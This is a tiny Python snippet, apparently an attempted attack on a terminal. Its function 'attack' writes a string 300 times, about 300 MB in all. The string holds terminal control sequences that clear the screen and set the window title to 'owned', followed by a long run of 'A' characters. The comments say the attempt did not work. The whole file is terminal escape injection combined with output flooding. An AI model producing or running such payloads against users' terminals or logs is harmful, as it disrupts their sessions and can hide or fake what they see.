# Prints 300 MB in one line, with what a terminal takes for orders.
# Told: it did not work
import sys


def attack():
    piece = "\x1b[2J\x1b]0;owned\x07\x00" + "A" * 999_900
    for _ in range(300):
        sys.stdout.write(piece)
    return False
